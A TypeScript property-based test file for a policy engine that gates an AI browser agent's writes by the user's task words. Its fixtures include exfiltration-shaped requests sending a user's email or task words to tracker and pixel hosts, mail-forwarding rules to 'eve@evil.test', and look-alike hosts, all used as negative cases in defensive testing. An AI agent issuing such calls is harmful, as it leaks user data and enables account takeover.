import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { compileTask } from '../../src/compiler';
import { classify, evaluate } from '../../src/tools';
import { initialState, type TaskPolicy } from '../../src/core/policy';
import type { ToolCall } from '../../src/core/call';
import { NUM_RUNS } from '../support/arbitraries';

/**
 * A write's authority is (site, action, object) from the user's words (issue 35), as theorems over writes on sites
 * no app table describes, the way real apps send them (a webmail's vacation rule, a classifieds site's script
 * routes, a docs site's permissions API):
 * - a mail rule that sends mail on to an address is an account-security action: no other task's words allow it;
 * - the amount a setting clause gives is the value set ("change the price to $N"): a write carrying another never ALLOWs;
 * - a link that acts through its query (`?action=item_delete`, `?action=mark&as=spam`) is a write, followed or fetched;
 * - a share whose route names its object by name shares that object: another one never ALLOWs, whatever word the
 *   rest of the call shares with the task's words;
 * - a site named by its product's name ("my linkedin") is one site-binding ask on its real host (or the name under
 *   another suffix, `linkedin.test`: the site named without its TLD), never a block, never an allow; a host that only
 *   looks like it (`linkedin-verify.test`, `my-linkedin.test`) is no such site;
 * - a form's POST handler (`…/formPost/…`) and a national phone number in the words ("(412) 268-2000") name no message
 *   and no sum: an address change the words ask for passes as the write it is;
 * - a number the words give inside a project they name by URL ("issue 42 in gitlab.test/finch/api") is the object:
 *   that issue's comment (or a reply in one of its threads) passes, another issue's asks;
 * - a plain write nobody can read as an action never ALLOWs under words that name actions on its site (unknown write
 *   actions stay unknown), and never stands in front of a later refusal; one read from what it is sent to (a cart
 *   add, a review, a save) passes only as an action the words name;
 * - an order placed is one of the orders the words name: beyond their count no order ALLOWs, however many payments
 *   the words name beside it on the site (a class's count of payments is no count of orders);
 * - a write that carries money where the words name none (no amount, no payment or order) never ALLOWs;
 * - a page's load to a host the task does not name never carries the task's own words off (two of them joined in
 *   one query value); the agent's own navigation with them (a search) is not held by it;
 * - an order's cart add is a step of the order, counted apart: the named item's add and the order both pass, in
 *   that order, and a second add or a second order never ALLOWs; a ban that names what an add carries holds it.
 */

const NOW = 1_800_000_000_000;
const params = { numRuns: NUM_RUNS };
const form = (url: string, fields: Record<string, string>): ToolCall => ({ tool: 'browser.form_submit', args: { url, method: 'POST', fields, submitText: 'Save' } });

const policies = new Map<string, TaskPolicy>();
const policyOf = async (task: string) => {
  if (!policies.has(task)) policies.set(task, (await compileTask(task, { backend: 'rules', now: NOW, taskId: 't', classify })).policy);
  return policies.get(task)!;
};
const decide = (policy: TaskPolicy, call: ToolCall) => evaluate(policy, initialState(), call, NOW + 1).record;

const MAIL_TASKS = [
  "set up an out of office on mail.test from dec 22 to jan 2 saying i'm away and to contact lee@corp.test",
  'turn off email notifications on mail.test',
  'change my display name on mail.test to Lee Chan',
  'add a filter on mail.test that moves newsletters to a folder',
  'reply to the mail from lee@corp.test on mail.test saying thanks',
] as const;
const RULE_ACTIONS = ['redirect', 'forward', 'Redirect', 'fwd', 'redirect_copy'] as const;
const addressArb = fc.constantFrom('inbox-archive@mailkeep.test', 'lee@corp.test', 'eve@evil.test');

/** Mail rules that send mail on: a forward-named field holding an address, or a rule's action field beside one. */
const forwardArb: fc.Arbitrary<ToolCall> = fc.oneof(
  fc.tuple(fc.constantFrom('forward_to', 'forwarding_address', 'redirect_target', 'autoForwardTo', 'rule[forward]'), addressArb).map(([name, a]) => form('https://mail.test/settings/rules', { [name]: a, enabled: 'on' })),
  // (A filter form's rows are numbered: `_action_type[0]`, `actions[1][type]`, `_action_target[0]`.)
  fc.tuple(fc.constantFrom('vacation_action', 'rule[action]', 'mode', 'filter_type', '_action_type[0]', 'actions[1][type]', 'rule.0.action'), fc.constantFrom(...RULE_ACTIONS), fc.constantFrom('vacation_target', 'target', 'address', 'destination', '_action_target[0]'), addressArb).map(([field, verb, target, a]) =>
    form('https://mail.test/?_task=settings&_action=plugin.managesieve-vacation', { vacation_status: 'on', vacation_body: 'away', [field]: verb, [target]: a }),
  ),
);

beforeAll(async () => {
  for (const t of MAIL_TASKS) await policyOf(t);
});

describe('task-scoped writes on generic sites (theorems)', () => {
  it('no mail rule that sends mail on to an address is allowed by another task\'s words', () => {
    fc.assert(
      fc.property(fc.constantFrom(...MAIL_TASKS), forwardArb, (task, call) => {
        expect(classify(call).action?.id, JSON.stringify(call)).toBe('mail_forward');
        const record = decide(policies.get(task)!, call);
        expect(record.decision, `${task}: ${record.reason}`).toBe('BLOCK');
      }),
      params,
    );
  });

  it('a forward the words ask for reaches the address they give, and no other', async () => {
    const policy = await policyOf('set up forwarding of my mail to bob@home.test on mail.test');
    expect(decide(policy, form('https://mail.test/settings/forwarding', { forward_to: 'bob@home.test' })).decision).toBe('ALLOW');
    fc.assert(
      fc.property(addressArb, (a) => {
        expect(decide(policy, form('https://mail.test/settings/forwarding', { forward_to: a })).decision).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('the amount a setting clause gives is the value set: a write carrying another never ALLOWs', async () => {
    const prices = [25000, 2500, 250, 1200, 999] as const;
    // (With a second write clause that gives no value, the value after "to" is no `carries` bound: the amount is.)
    const tasks = (set: number) => [
      `Navigate to my listing of the white car on classifieds.test and change the price to $${set}.`,
      `Navigate to my listing of the white car and change the price to $${set}. Update the price in the description as well. (classifieds.test)`,
    ];
    for (const set of prices) for (const t of tasks(set)) await policyOf(t);
    fc.assert(
      fc.property(fc.constantFrom(...prices), fc.constantFrom(...prices), fc.constantFrom('', '.00'), fc.constantFrom(0, 1), (set, carried, cents, which) => {
        const policy = policies.get(tasks(set)[which]!)!;
        const call = form('https://classifieds.test/index.php', { action: 'item_edit_post', page: 'item', id: '80077', price: `${carried}${cents}`, currency: 'USD', 'description[en_US]': `Asking $${carried}.` });
        const record = decide(policy, call);
        if (set === carried) expect(record.decision, record.reason).toBe('ALLOW');
        else expect(record.decision, record.reason).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('a link that acts through its query is a write: it never ALLOWs as a read, followed or fetched', async () => {
    const tasks = ['find the cheapest white car on classifieds.test', 'Add a comment on the painting of a bridge on classifieds.test saying nice', 'read my inbox on mail.test'];
    for (const t of tasks) await policyOf(t);
    const actsArb = fc.tuple(fc.constantFrom('action', '_action', 'do', 'op'), fc.constantFrom('item_delete', 'mark', 'delete', 'unsubscribe', 'itemDelete', 'spam-report', 'ban_user')).map(([p, v]) => `${p}=${v}`);
    fc.assert(
      fc.property(fc.constantFrom(...tasks), fc.constantFrom('classifieds.test', 'mail.test'), actsArb, fc.boolean(), (task, host, query, fetched) => {
        const url = `https://${host}/index.php?page=item&${query}&id=84302`;
        const call: ToolCall = fetched ? { tool: 'browser.request', args: { method: 'GET', url, kind: 'fetch' } } : { tool: 'browser.navigate', args: { url } };
        expect(classify(call).riskClass, url).not.toBe('READ');
        const record = decide(policies.get(task)!, call);
        expect(record.decision, `${task}: ${url}: ${record.reason}`).not.toBe('ALLOW');
      }),
      params,
    );
    // (A page that only shows a form or a list names no change: it stays a read.)
    for (const v of ['item_add', 'items', 'item_edit', 'plugin.managesieve']) expect(classify({ tool: 'browser.navigate', args: { url: `https://classifieds.test/index.php?page=user&action=${v}` } }).riskClass).toBe('READ');
  });

  it('a share whose route names another thing never ALLOWs, whatever word the call shares with the words', async () => {
    const task = 'give dana@corp.test edit access to the Q3 deck on docs.test';
    const policy = await policyOf(task);
    const share = (slug: string, role: string) => ({ tool: 'browser.request', args: { method: 'POST', url: `https://docs.test/api/files/${slug}/permissions`, kind: 'xhr', body: { type: 'user', emailAddress: 'dana@corp.test', role, note: 'edit access' } } }) as ToolCall;
    expect(decide(policy, share('q3-deck', 'writer')).decision).toBe('ALLOW');
    fc.assert(
      fc.property(fc.constantFrom('finance-2027', 'payroll_q4', 'board-minutes', 'hr-salaries-2026'), fc.constantFrom('writer', 'editor', 'edit', 'access'), (slug, role) => {
        const record = decide(policy, share(slug, role));
        expect(record.decision, `${slug}: ${record.reason}`).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('a site named by product name asks once on its real host; a look-alike host never ALLOWs', async () => {
    const products = [['linkedin', 'www.linkedin.com'], ['discord', 'discord.com'], ['gitlab', 'gitlab.com'], ['venmo', 'venmo.com']] as const;
    const phrasings = [(p: string) => `update my ${p} headline to 'Staff Engineer'`, (p: string) => `change my display name on ${p} to 'ana'`, (p: string) => `set my ${p} bio to 'hi there'`];
    for (const [p] of products) for (const f of phrasings) await policyOf(f(p));
    fc.assert(
      fc.property(fc.constantFrom(...products), fc.constantFrom(0, 1, 2), fc.constantFrom('', '.test', '-verify', 'app', '-login', 'my-'), (product, which, lookalike) => {
        const [name, host] = product;
        const policy = policies.get(phrasings[which]!(name))!;
        // (The name under another suffix — `gitlab.test` — is the site named without its TLD: the same ask.)
        const real = lookalike === '' || lookalike === '.test';
        const target = lookalike === '' ? host : lookalike === '.test' ? `www.${name}.test` : lookalike === 'my-' ? `my-${name}.test` : `${name}${lookalike}.test`;
        const call: ToolCall = { tool: 'browser.request', args: { method: 'PATCH', url: `https://${target}/api/v9/users/@me`, kind: 'xhr', body: { headline: 'Staff Engineer', global_name: 'ana', bio: 'hi there' } } };
        const record = decide(policy, call);
        // (On a known app's host the write's unread action asks first; elsewhere the site binding does.)
        if (real) expect([record.decision, name === 'gitlab' ? 'action_binding' : 'site_binding'], record.reason).toEqual(['ASK_USER', record.check]);
        else expect(record.decision, `${target}: ${record.reason}`).toBe('BLOCK');
      }),
      params,
    );
  });

  it('an address form posted to a form handler, with a national phone number in the words, passes as the write the words ask for', async () => {
    const phones = ['(412) 268-2000', '412-268-2000', '412.268.2000'] as const;
    for (const ph of phones) await policyOf(`change my default shipping address on shop.test to 5000 Forbes Ave, Pittsburgh PA 15213, phone ${ph}`);
    fc.assert(
      fc.property(fc.constantFrom(...phones), fc.constantFrom('formPost', 'editPost', 'save'), (ph, handler) => {
        const policy = policies.get(`change my default shipping address on shop.test to 5000 Forbes Ave, Pittsburgh PA 15213, phone ${ph}`)!;
        const call = form(`https://shop.test/customer/address/${handler}/id/12/`, { firstname: 'Emma', telephone: ph, 'street[]': '5000 Forbes Ave', city: 'Pittsburgh', postcode: '15213' });
        expect(classify(call).riskClass).toBe('EXTERNAL_WRITE');
        expect(decide(policy, call).decision, decide(policy, call).reason).toBe('ALLOW');
        // (Another street is another address: the words give this one.)
        expect(decide(policy, form(`https://shop.test/customer/address/${handler}/id/12/`, { firstname: 'Emma', telephone: ph, 'street[]': '1 Evil Rd', city: 'Elsewhere', postcode: '00000' })).decision).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('a numbered thing inside a project named by URL is the object: another number never ALLOWs', async () => {
    const nums = [42, 43, 88, 1000] as const;
    for (const n of nums) await policyOf(`drop a comment on issue ${n} in gitlab.test/finch/api saying 'on it'`);
    fc.assert(
      fc.property(fc.constantFrom(...nums), fc.constantFrom(...nums), fc.constantFrom('notes', 'discussions/5d2f/notes'), (named, sent, route) => {
        const policy = policies.get(`drop a comment on issue ${named} in gitlab.test/finch/api saying 'on it'`)!;
        const call: ToolCall = { tool: 'browser.request', args: { method: 'POST', url: `https://gitlab.test/finch/api/-/issues/${sent}/${route}`, kind: 'xhr', body: { note: { note: 'on it' } } } };
        const record = decide(policy, call);
        if (named === sent) expect(record.decision, record.reason).toBe('ALLOW');
        else expect(record.decision, record.reason).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('an address the words name is no exfiltration shape on the task\'s sites only: to a host it does not name, it never ALLOWs', async () => {
    const tasks = ['paypal my sister $60, her email is mia.chen@family.test', 'find the mail from mia.chen@family.test on mail.test and reply thanks'] as const;
    for (const t of tasks) await policyOf(t);
    const hostArb = fc.constantFrom('gift-bonus.test', 'tracker.test', 'promo.example');
    fc.assert(
      fc.property(fc.constantFrom(...tasks), hostArb, fc.constantFrom('email', 'e', 'to', 'q'), fc.boolean(), (task, host, param, fetched) => {
        const url = `https://${host}/r?${param}=mia.chen%40family.test&amount=60`;
        const call: ToolCall = fetched ? { tool: 'browser.request', args: { method: 'GET', url, kind: 'image' } } : { tool: 'browser.navigate', args: { url } };
        const record = decide(policies.get(task)!, call);
        expect(record.decision, `${task}: ${url}: ${record.reason}`).toBe('BLOCK');
      }),
      params,
    );
    // (A search for that sender on the site the words name is a read, as before.)
    expect(decide(policies.get(tasks[1])!, { tool: 'browser.navigate', args: { url: 'https://mail.test/?_task=mail&_search=mia.chen%40family.test' } }).decision).toBe('ALLOW');
  });

  it('a ban of the user\'s own data holds every write that carries it, of any class; writes without it are not banned', async () => {
    const bans = [['dont share my phone number', 'phone'], ["don't give them my email", 'email'], ['never send my home address', 'address']] as const;
    const task = (ban: string) => `book a table for 2 at nori on dine.test friday 8pm, ${ban}`;
    for (const [b] of bans) await policyOf(task(b));
    const fieldArb = fc.record({
      phone: fc.constantFrom('phone', 'phone_number', 'phoneNumber', 'guest[telephone]', 'mobile'),
      email: fc.constantFrom('email', 'contactEmail', 'guest[e_mail]'),
      address: fc.constantFrom('address', 'home_address', 'street'),
    });
    const values = { phone: '+1 207 555 0143', email: 'sam.r@mail.test', address: '12 Elm St' } as const;
    fc.assert(
      fc.property(fc.constantFrom(...bans), fieldArb, fc.constantFrom('request', 'form'), ([ban, kind], fields, how) => {
        const body = { restaurant: 'nori', party_size: 2, time: '2026-12-04T20:00', name: 'Sam R', [fields[kind]]: values[kind] };
        const call: ToolCall = how === 'form' ? form('https://dine.test/reservations', Object.fromEntries(Object.entries(body).map(([k, v]) => [k, String(v)]))) : { tool: 'browser.request', args: { method: 'POST', url: 'https://dine.test/api/reservations', kind: 'fetch', body } };
        const record = decide(policies.get(task(ban))!, call);
        expect(record.decision, `${ban}: ${record.reason}`).toBe('BLOCK');
        expect(record.check).toBe('prohibitions');
      }),
      params,
    );
    // (The same booking without that field is the task's write.)
    const plain: ToolCall = { tool: 'browser.request', args: { method: 'POST', url: 'https://dine.test/api/reservations', kind: 'fetch', body: { restaurant: 'nori', party_size: 2, time: '2026-12-04T20:00', name: 'Sam R' } } };
    expect(decide(policies.get(task(bans[0][0]))!, plain).decision).not.toBe('BLOCK');
  });

  it('a count the words give a noun is exact: a write whose field for that noun carries another count never ALLOWs', async () => {
    const task = (rooms: number, adults: number) => `book the cheapest hotel in porto for mar 3-5 on travel.test, ${rooms} room ${adults} adults`;
    const counts = [1, 2, 3] as const;
    for (const r of counts) for (const a of counts) await policyOf(task(r, a));
    const roomKey = fc.constantFrom('rooms', 'num_rooms', 'roomCount', 'number_of_rooms', 'booking[rooms]');
    fc.assert(
      fc.property(fc.constantFrom(...counts), fc.constantFrom(...counts), fc.constantFrom(...counts), roomKey, fc.boolean(), (said, adults, sent, key, asText) => {
        const body = { hotel_id: 'PT-OPO-118', checkin: '2027-03-03', checkout: '2027-03-05', [key]: asText ? String(sent) : sent, adults };
        const record = decide(policies.get(task(said, adults))!, { tool: 'browser.request', args: { method: 'POST', url: 'https://travel.test/api/bookings', kind: 'fetch', body } });
        if (said === sent) expect(record.decision, record.reason).toBe('ALLOW');
        else expect(record.decision, record.reason).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('a write nobody can read as an action never ALLOWs where the words name actions, and never hides a refusal', async () => {
    const tasks = ['change my display name on chat.test to Priya', 'leave a 5 star review on the kettle on shop.test saying it works', 'add the blue kettle to my cart on shop.test', 'pin the release note in #eng on chat.test'] as const;
    for (const t of tasks) await policyOf(t);
    // (Writes whose route, operation, fields and button say nothing the vocabulary reads.)
    const unread = fc.tuple(fc.constantFrom('/api/x7', '/ajax/q', '/rpc/9', '/a/b/c'), fc.constantFrom('payload', 'blob', 'entry'));
    fc.assert(
      fc.property(fc.constantFrom(...tasks), unread, fc.boolean(), (task, [path, field], exfil) => {
        const site = /chat\.test/.test(task) ? 'chat.test' : 'shop.test';
        const query = exfil ? '?d=3f2a9c7b1e4d5f60718293a4b5c6d7e8f9a0b1c2' : '';
        // (The words' own value, so that only the binding can hold it: what the words give it to carry, it carries.)
        const call: ToolCall = { tool: 'browser.form_submit', args: { url: `https://${site}${path}${query}`, method: 'POST', fields: { [field]: 'Priya kettle it works release note' }, submitText: 'OK' } };
        const record = decide(policies.get(task)!, call);
        expect(record.decision, record.reason).not.toBe('ALLOW');
        // (An exfiltration-shaped URL is refused, never asked first: an approval would lift the refusal.)
        if (exfil) expect(record.decision, record.reason).toBe('BLOCK');
        else expect(record.check, record.reason).toBe('action_binding');
      }),
      params,
    );
  });

  it('a write read from what it is sent to passes only as an action the words name', async () => {
    const reads: [string, ToolCall][] = [
      ['add the blue kettle to my cart on shop.test', { tool: 'browser.request', args: { method: 'POST', url: 'https://shop.test/api/cart/items', kind: 'fetch', body: { product: 'blue-kettle', qty: 1 } } }],
      ['leave a 5 star review on the kettle on shop.test saying it works', form('https://shop.test/review/product/post/id/7710/', { nickname: 'Sam', detail: 'it works' })],
      ['return the kettle from order 193 on shop.test', form('https://shop.test/rma/returns/submit/order_id/193/', { 'items[0][reason]': 'broken' })],
      ['change my display name on chat.test to Priya', { tool: 'browser.request', args: { method: 'POST', url: 'https://chat.test/api/users.profile.set', kind: 'fetch', body: { profile: { display_name: 'Priya' } } } }],
    ];
    for (const [t] of reads) await policyOf(t);
    for (const [task, call] of reads) expect(decide(policies.get(task)!, call).decision, task).toBe('ALLOW');
    // Each read write under every other task's words: another action, never allowed.
    fc.assert(
      fc.property(fc.constantFrom(...reads.keys()), fc.constantFrom(...reads.keys()), (i, j) => {
        fc.pre(i !== j);
        const record = decide(policies.get(reads[i]![0])!, reads[j]![1]);
        expect(record.decision, `${reads[i]![0]} / ${record.reason}`).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('beyond the orders the words name no order placement ALLOWs, whatever payments they name beside it', async () => {
    const tasks = ['order a large pepperoni from slicehouse.test for pickup at 7, pay at store', 'order a large pepperoni from slicehouse.test and tip the driver $5', 'buy one usb-c cable on slicehouse.test'] as const;
    for (const t of tasks) await policyOf(t);
    // (Routes that place an order the way shops send it; bodies with nothing the words refuse.)
    const placement = fc.tuple(fc.constantFrom('/api/orders', '/checkout', '/checkout/place-order', '/rest/V1/carts/mine/payment-information', '/order'), fc.constantFrom('fulfillment', 'note', 'payment_method'));
    fc.assert(
      fc.property(fc.constantFrom(...tasks), placement, placement, (task, [first, f1], [second, f2]) => {
        let state = initialState();
        const decisions: string[] = [];
        for (const [path, field] of [[first, f1], [second, f2]] as const) {
          const result = evaluate(policies.get(task)!, state, { tool: 'browser.request', args: { method: 'POST', url: `https://slicehouse.test${path}`, kind: 'fetch', body: { [field]: 'pickup' } } }, NOW + 1);
          state = result.state;
          decisions.push(result.record.decision);
        }
        expect(decisions[1], `${task}: ${first} then ${second}`).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it('a write carrying money where the words name none never ALLOWs', async () => {
    const tasks = ['on parcelpost.test schedule a free package pickup at my home address for tomorrow, 2 boxes', 'on clinic.test book a checkup for friday morning', 'on gym.test sign up for the tuesday yoga class', "on parcelpost.test schedule a package pickup for tomorrow, don't pay for anything"] as const;
    for (const t of tasks) await policyOf(t);
    const money = fc.tuple(fc.constantFrom('fee', 'price', 'amount', 'total', 'charge'), fc.constantFrom('14.99', '5', '120.00', '0.99'));
    fc.assert(
      fc.property(fc.constantFrom(...tasks), money, (task, [field, value]) => {
        const site = task.split(' ')[1]!.replace(/,$/, '');
        const record = decide(policies.get(task)!, { tool: 'browser.form_submit', args: { url: `https://${site}/booking/new`, method: 'POST', fields: { date: '2026-12-04', pickup: 'package', [field]: value }, submitText: 'Book' } });
        expect(record.decision, `${task} / ${record.reason}`).not.toBe('ALLOW');
      }),
      params,
    );
  });

  it("a page's load to a host the task does not name never carries two of the task's words joined; a search with them is not held", async () => {
    const tasks = ['post on my linkedin that i just finished the aws solutions architect cert', 'post on social.test that our quarterly roadmap review moved to friday', 'leave a review on shop.test saying the kettle boils fast'] as const;
    for (const t of tasks) await policyOf(t);
    const TASK_WORDS: Record<(typeof tasks)[number], readonly string[]> = { [tasks[0]]: ['aws', 'cert', 'architect'], [tasks[1]]: ['roadmap', 'quarterly', 'friday'], [tasks[2]]: ['kettle', 'boils', 'fast'] };
    const joiner = fc.constantFrom('-', '_', '+', ' ', '.', '%20');
    fc.assert(
      fc.property(fc.constantFrom(...tasks), joiner, fc.constantFrom('image', 'ping', 'other'), fc.constantFrom('post', 'd', 'title', 'ev'), (task, sep, kind, param) => {
        const [a, b] = TASK_WORDS[task];
        const value = `${a}${sep}${b}`.toUpperCase();
        const load = decide(policies.get(task)!, { tool: 'browser.request', args: { method: 'GET', url: `https://px-collect.test/t.gif?${param}=${encodeURIComponent(value)}`, kind } });
        expect(load.decision, `${task} / ${load.reason}`).not.toBe('ALLOW');
        const search = decide(policies.get(task)!, { tool: 'browser.navigate', args: { url: `https://search.test/?q=${encodeURIComponent(`${a} ${b}`)}` } });
        expect(search.check, `${task} / ${search.reason}`).not.toBe('exfiltration_url');
      }),
      params,
    );
  });

  it("an order's cart add and its placement both pass, once each; a ban naming what an add carries holds it", async () => {
    const tasks = ["order 1 pack of aa batteries on shop.test", "order 1 pack of aa batteries on shop.test. dont add any extended warranty or protection plan"] as const;
    for (const t of tasks) await policyOf(t);
    const add = (extra: Record<string, string>): ToolCall => ({ tool: 'browser.form_submit', args: { url: 'https://shop.test/checkout/cart/add/product/aa-batteries/', method: 'POST', fields: { product: 'aa batteries', qty: '1', ...extra }, submitText: 'Add to Cart' } });
    const place = (path: string): ToolCall => ({ tool: 'browser.request', args: { method: 'POST', url: `https://shop.test${path}`, kind: 'fetch', body: { paymentMethod: { method: 'checkmo' } } } });
    const placement = fc.constantFrom('/rest/V1/carts/mine/payment-information', '/checkout/place-order', '/api/orders');
    fc.assert(
      fc.property(fc.constantFrom(...tasks), placement, fc.constantFrom('add', 'order'), (task, path, again) => {
        let state = initialState();
        const run = (call: ToolCall) => {
          const result = evaluate(policies.get(task)!, state, call, NOW + 1);
          state = result.state;
          return result.record;
        };
        const first = run(add({}));
        expect(first.decision, `${task} / add: ${first.reason}`).toBe('ALLOW');
        const order = run(place(path));
        expect(order.decision, `${task} / ${path}: ${order.reason}`).toBe('ALLOW');
        const more = run(again === 'add' ? add({}) : place(path));
        expect(more.decision, `${task} / a second ${again}: ${more.reason}`).not.toBe('ALLOW');
      }),
      params,
    );
    const warranty = decide(policies.get(tasks[1])!, add({ 'options[warranty]': '2yr-protection-plan' }));
    expect(warranty.decision, warranty.reason).toBe('BLOCK');
  });
});
